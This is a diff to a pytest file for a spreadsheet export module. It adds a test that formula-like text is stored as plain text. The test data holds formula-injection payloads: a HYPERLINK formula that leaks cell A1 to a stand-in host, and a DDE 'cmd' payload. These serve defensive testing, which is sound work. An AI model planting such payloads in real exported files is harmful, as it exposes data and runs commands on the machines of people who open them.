@@ -8,7 +8,7 @@ import pytest
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import select, update
 
-from core.spreadsheets import csv_value, xlsx_row
+from core.spreadsheets import csv_value, streaming_workbook, write_cells, xlsx_row
 from support.reports_factory import add_campaign
 
 EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
@@ -27,6 +27,24 @@ def test_text_starting_with_an_equals_sign_is_stored_as_text(write_only):
     cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[-1].iter_rows())
     assert [c.value for c in cells[:7]] == [EVIL, "张三", 3, None, "=1+1", "-2+3+cmd|' /C calc'!A0", -5]
     assert [c.data_type for c in cells[:7]] == ["s", "s", "n", "n", "s", "s", "n"]
+
+
+def test_write_cells_writes_what_write_row_writes_and_text_stays_text():
+    values = [EVIL, "张三", 3, None, "", "=1+1", *PAYLOADS, -5, 0.125, True, "0012", "2026-12-03"]
+    books = []
+    for write in (lambda sheet: sheet.write_row(1, 0, ["" if v is None else v for v in values]),
+                  lambda sheet: write_cells(sheet, 1, values)):
+        out = io.BytesIO()
+        book = streaming_workbook(out)
+        write(book.add_worksheet("s"))
+        book.close()
+        row = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=2))[0]
+        books.append([(c.value, c.data_type) for c in row])
+    assert books[0] == books[1]
+    # XlsxWriter writes a carriage return as _x000D_, which openpyxl reads back as it is.
+    assert [value for value, _kind in books[1]][:len(values)] == [
+        None if v == "" else v.replace("\r", "_x000D_") if isinstance(v, str) else v for v in values]
+    assert {kind for (value, kind) in books[1] if isinstance(value, str)} == {"s"}
 
 
 @pytest.mark.parametrize(("value", "expected"), [
